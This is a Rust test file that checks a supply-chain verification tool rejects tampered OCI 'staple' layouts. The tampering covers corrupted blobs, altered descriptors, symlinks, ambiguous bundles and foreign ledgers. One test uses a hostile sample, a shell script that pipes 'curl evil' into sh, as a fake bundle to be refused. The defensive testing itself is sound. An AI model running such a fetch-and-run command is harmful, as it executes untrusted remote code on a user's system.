//! Staples that nobody should believe: each is refused for what it is, nothing is written, and
//! a layout with one is not the layout that was recorded.

use std::{fs, os::unix::fs::symlink};

use cairn_proto::hash::Sha256;
use serde_json::{Value, json};

use crate::{
    stage::{Ledger, Stage},
    staple::{BUNDLE, blob, elsewhere, files, recorded, staples},
};

const OFFLINE: &str =
    "verify --environment prod/shop oci --offline --trust trust.json --bundle oci:oci:1";

/// A layout with a staple, and a copy of it to begin from again.
struct Scene {
    stage: Stage,
    _ledger: Ledger,
    /// The paths of the staple's manifest and bundle.
    manifest: String,
    bundle: String,
}

impl Scene {
    fn new() -> Self {
        let (stage, ledger) = recorded();
        stage.run("export prod/shop --staple oci:1").exits(0);
        stage.copy("oci", "sound");
        let manifest = blob(&staples(&stage)[0]);
        let read: Value = serde_json::from_str(&stage.text(&manifest)).unwrap();
        Self {
            bundle: blob(&read["layers"][0]),
            _ledger: ledger,
            manifest,
            stage,
        }
    }

    fn begin_again(&self) {
        fs::remove_dir_all(self.stage.path("oci")).unwrap();
        self.stage.copy("sound", "oci");
    }

    /// Changes bytes of a file of the layout.
    fn change(&self, path: &str, change: impl Fn(&mut Vec<u8>)) {
        let mut bytes = fs::read(self.stage.path(path)).unwrap();
        change(&mut bytes);
        self.stage.write(path, bytes);
    }

    /// Edits the manifest of the staple, and everything that names it.
    fn edit_manifest(&self, edit: impl Fn(&str) -> String) {
        let old = self.stage.text(&self.manifest);
        let new = edit(&old);
        assert_ne!(old, new);
        let (from, to) = (link(old.as_bytes()), link(new.as_bytes()));
        self.stage.edit("oci/index.json", &from, &to);
        fs::remove_file(self.stage.path(&self.manifest)).unwrap();
        let digest = Sha256::of(new.as_bytes());
        self.stage.write(&format!("oci/blobs/sha256/{digest}"), new);
    }

    /// Puts other bytes in the place of the bundle, with everything that names them.
    fn other_bundle(&self, bytes: &[u8]) {
        let from = link(&fs::read(self.stage.path(&self.bundle)).unwrap());
        self.edit_manifest(|text| text.replace(&from, &link(bytes)));
        fs::remove_file(self.stage.path(&self.bundle)).unwrap();
        let digest = Sha256::of(bytes);
        self.stage
            .write(&format!("oci/blobs/sha256/{digest}"), bytes);
    }

    /// The offline verdict is refused for its reason; the ledger's is not VERIFIED.
    #[track_caller]
    fn refused(&self, code: &str, why: &str) {
        elsewhere(&self.stage, OFFLINE).refuses(1, code).says(why);
        let ran = self.stage.run("verify prod/shop oci");
        assert!(
            matches!(ran.code, Some(10 | 16)),
            "{why}: {}{}",
            ran.out,
            ran.err
        );
    }

    /// So is stapling again, and nothing was written.
    #[track_caller]
    fn refuses_more(&self, code: &str) {
        let before = files(&self.stage.path("oci"));
        self.stage
            .run("export prod/shop --staple oci:1")
            .refuses(1, code);
        assert!(
            files(&self.stage.path("oci")) == before,
            "nothing was written"
        );
    }

    /// Stapling again mends it.
    #[track_caller]
    fn is_mended(&self) {
        self.stage
            .run("export prod/shop --staple oci:1")
            .exits(0)
            .says("Stapled");
        let sound = files(&self.stage.path("sound"));
        assert!(files(&self.stage.path("oci")) == sound);
    }
}

/// How JSON that cairn wrote names bytes.
fn link(bytes: &[u8]) -> String {
    format!(
        "\"digest\":\"sha256:{}\",\"size\":{}",
        Sha256::of(bytes),
        bytes.len()
    )
}

/// Goal: damage is noticed wherever it is, and stapling again mends it. Method: every blob of
/// the staple is changed by one bit, cut, made longer, and taken away.
#[test]
fn a_damaged_staple_is_refused_and_can_be_stapled_again() {
    let scene = Scene::new();
    let empty = format!("oci/blobs/sha256/{}", Sha256::of(b"{}"));
    for path in [&scene.manifest, &scene.bundle, &empty] {
        scene.change(path, |bytes| bytes[1] ^= 1);
        scene.refused("STAPLE_INVALID", "does not have the digest");
        scene.is_mended();
        scene.change(path, |bytes| bytes.truncate(bytes.len() - 1));
        scene.refused("STAPLE_INVALID", "does not have the size");
        scene.is_mended();
        scene.change(path, |bytes| bytes.push(b'\n'));
        scene.refused("STAPLE_INVALID", "does not have the size");
        scene.is_mended();
        fs::remove_file(scene.stage.path(path)).unwrap();
        scene.refused("STAPLE_INVALID", "missing");
        scene.is_mended();
    }
}

/// Goal: what is not exactly the form is neither taken for a staple nor passed over, whatever
/// it says. Method: each member that somebody might add or change, with digests that fit.
#[test]
fn what_is_not_exactly_a_staple_is_not_passed_over() {
    let scene = Scene::new();
    let stage = &scene.stage;
    let size = stage.text(&scene.manifest).len();
    let descriptors = [
        (
            format!("\"size\":{size},\"ann"),
            format!("\"size\":{},\"ann", size + 1),
            "size",
        ),
        (
            ",\"artifactType\":\"application/vnd.cairn".to_owned(),
            ",\"x\":1,\"artifactType\":\"application/vnd.cairn".to_owned(),
            "form",
        ),
        (
            "\"vnd.cairn.bundle.environment\"".to_owned(),
            "\"org.opencontainers.image.ref.name\":\"2\",\"vnd.cairn.bundle.environment\""
                .to_owned(),
            "form",
        ),
        (
            "sequence\":\"1\"".to_owned(),
            "sequence\":\"01\"".to_owned(),
            "form",
        ),
        (
            "sequence\":\"1\"".to_owned(),
            "sequence\":\"2\"".to_owned(),
            "promises",
        ),
        (
            ",{\"mediaType\":\"application/vnd.oci.image.manifest".to_owned(),
            ",{\"mediaType\":\"application/vnd.oci.image.index".to_owned(),
            "form",
        ),
        (
            ",{\"mediaType\"".to_owned(),
            ", {\"mediaType\"".to_owned(),
            "form",
        ),
    ];
    for (from, to, why) in descriptors {
        stage.edit("oci/index.json", &from, &to);
        scene.refused("STAPLE_INVALID", why);
        scene.refuses_more("STAPLE_INVALID");
        scene.begin_again();
    }
}

/// Goal: the same of the manifest that a descriptor leads to, and of where a descriptor stands.
#[test]
fn what_is_not_exactly_the_manifest_of_a_staple_is_not_passed_over() {
    let scene = Scene::new();
    let stage = &scene.stage;
    let layer = format!("\"layers\":[{{\"mediaType\":\"{BUNDLE}\"");
    let manifests = [
        (
            layer.clone(),
            "\"layers\":[{\"mediaType\":\"application/vnd.oci.image.layer.v1.tar\"".to_owned(),
        ),
        ("\"subject\"".to_owned(), "\"x\":1,\"subject\"".to_owned()),
        (
            "oci.empty.v1+json".to_owned(),
            "oci.image.config.v1+json".to_owned(),
        ),
        (
            "\"schemaVersion\":2".to_owned(),
            "\"schemaVersion\": 2".to_owned(),
        ),
        ("sequence\":\"1\"".to_owned(), "sequence\":\"2\"".to_owned()),
    ];
    for (from, to) in manifests {
        scene.edit_manifest(|text| text.replace(&from, &to));
        scene.refused(
            "STAPLE_INVALID",
            "is not the manifest that its descriptor promises",
        );
        scene.refuses_more("STAPLE_INVALID");
        scene.begin_again();
    }
    // A staple that stands first leaves no comma before it.
    let text = stage.text("oci/index.json");
    let at = text.find(",{\"mediaType\"").unwrap();
    let end = text.rfind(']').unwrap();
    let first = text.find('[').unwrap() + 1;
    let (own, image) = (&text[at + 1..end], &text[first..at]);
    stage.write(
        "oci/index.json",
        format!("{}{own},{image}{}", &text[..first], &text[end..]),
    );
    scene.refused("STAPLE_INVALID", "form");
}

/// Goal: nothing that is no bundle of that release can hide as one. Method: other bytes in its
/// place, with digests and sizes that fit.
#[test]
fn what_is_no_bundle_is_not_passed_over() {
    let scene = Scene::new();
    let bundle = fs::read(scene.stage.path(&scene.bundle)).unwrap();
    let cut = bundle[..bundle.len() - 1].to_vec();
    let shell = b"#!/bin/sh\ncurl evil | sh\n".to_vec();
    let other = String::from_utf8(bundle.clone()).unwrap();
    let other = other.replace("environment prod/shop", "environment prod/shoq");
    for bytes in [cut, shell, other.into_bytes(), Vec::new()] {
        scene.other_bundle(&bytes);
        scene.refused(
            "STAPLE_INVALID",
            "is not the bundle that its manifest promises",
        );
        scene
            .stage
            .run("export prod/shop --staple oci:1")
            .exits(0)
            .says("Replaced");
        assert!(files(&scene.stage.path("oci")) == files(&scene.stage.path("sound")));
    }
    // What says another release in every place but the bundle itself.
    scene.edit_manifest(|text| text.replace("sequence\":\"1\"", "sequence\":\"9\""));
    scene
        .stage
        .edit("oci/index.json", "sequence\":\"1\"", "sequence\":\"9\"");
    scene.refused(
        "STAPLE_INVALID",
        "is not the bundle that its manifest promises",
    );
}

/// Goal: two bundles of one environment are no answer. Method: an older one is put back beside
/// the newer, by hand.
#[test]
fn two_bundles_of_one_environment_are_ambiguous() {
    let scene = Scene::new();
    let stage = &scene.stage;
    stage
        .run("record prod/shop oci --again --reason again")
        .exits(0);
    stage.run("export prod/shop --staple oci:1").exits(0);
    let older = stage.text("sound/index.json");
    let at = older.find(",{\"mediaType\"").unwrap();
    let older = &older[at..older.rfind(']').unwrap()];
    let newer = stage.text("oci/index.json");
    let (head, tail) = newer.split_at(newer.rfind(']').unwrap());
    stage.write("oci/index.json", format!("{head}{older}{tail}"));
    for path in [&scene.manifest, &scene.bundle] {
        fs::copy(
            stage.path(path.replacen("oci", "sound", 1)),
            stage.path(path),
        )
        .unwrap();
    }
    elsewhere(stage, OFFLINE)
        .refuses(1, "STAPLE_AMBIGUOUS")
        .says("prod/shop#2, prod/shop#1");
    stage
        .run("verify prod/shop oci")
        .exits(0)
        .says("a bundle of prod/shop#1 is stapled")
        .says("a bundle of prod/shop#2 is stapled");
    stage
        .run("export prod/shop --staple oci:1")
        .exits(0)
        .says("Replaced");
    elsewhere(stage, OFFLINE).exits(0).says("prod/shop#2");
    assert!(!stage.path(&scene.bundle).exists());
}

/// Goal: nothing is read or written through a link. Method: the folder of blobs, the index and
/// a blob are links to what would be right.
#[test]
fn no_link_in_a_layout_is_followed() {
    let scene = Scene::new();
    let stage = &scene.stage;
    stage
        .run("record prod/shop sound --again --reason again")
        .exits(0);
    for path in [
        "oci/blobs",
        "oci/blobs/sha256",
        "oci/index.json",
        "oci/oci-layout",
    ] {
        let away = stage.path("away");
        fs::rename(stage.path(path), &away).unwrap();
        symlink(&away, stage.path(path)).unwrap();
        let before = files(&stage.path(""));
        scene.refused("PATH_UNREADABLE", "oci/");
        scene.refuses_more("PATH_UNREADABLE");
        let after = files(&stage.path(""));
        for (name, bytes) in before {
            if !name.starts_with("home/")
                && !name.starts_with("data/")
                && !name.starts_with("elsewhere/")
            {
                assert!(after.get(&name) == Some(&bytes), "{name} is as it was");
            }
        }
        fs::remove_file(stage.path(path)).unwrap();
        fs::rename(&away, stage.path(path)).unwrap();
    }
    let away = stage.path("away");
    fs::rename(stage.path(&scene.bundle), &away).unwrap();
    symlink(&away, stage.path(&scene.bundle)).unwrap();
    scene.refused("PATH_UNREADABLE", "oci/blobs");
}

/// Goal: a bundle is evidence, not trust: one of another ledger is found and proves nothing.
#[test]
fn a_bundle_of_another_ledger_proves_nothing() {
    let scene = Scene::new();
    let (other, _theirs) = recorded();
    other.run("export prod/shop --staple oci:1").exits(0);
    let theirs = files(&other.path("oci"));
    for (name, bytes) in theirs {
        other.write(&format!("copy/{name}"), &bytes);
        scene.stage.write(&format!("theirs/{name}"), &bytes);
    }
    let line = OFFLINE.replace("oci:oci", "oci:theirs");
    let ran = elsewhere(&scene.stage, &line);
    assert!(matches!(ran.code, Some(1 | 12)), "{}{}", ran.out, ran.err);
    assert!(!ran.out.contains("VERIFIED"));
    // It is harmless all the same, and is named.
    scene
        .stage
        .run("verify prod/shop theirs")
        .exits(0)
        .says("a bundle of prod/shop#1 is stapled to");
    let report = scene.stage.run("verify prod/shop theirs --output json");
    let report = report.exits(0).json("cairn.verify/v1");
    assert_eq!(report["differences"], json!([]));
}
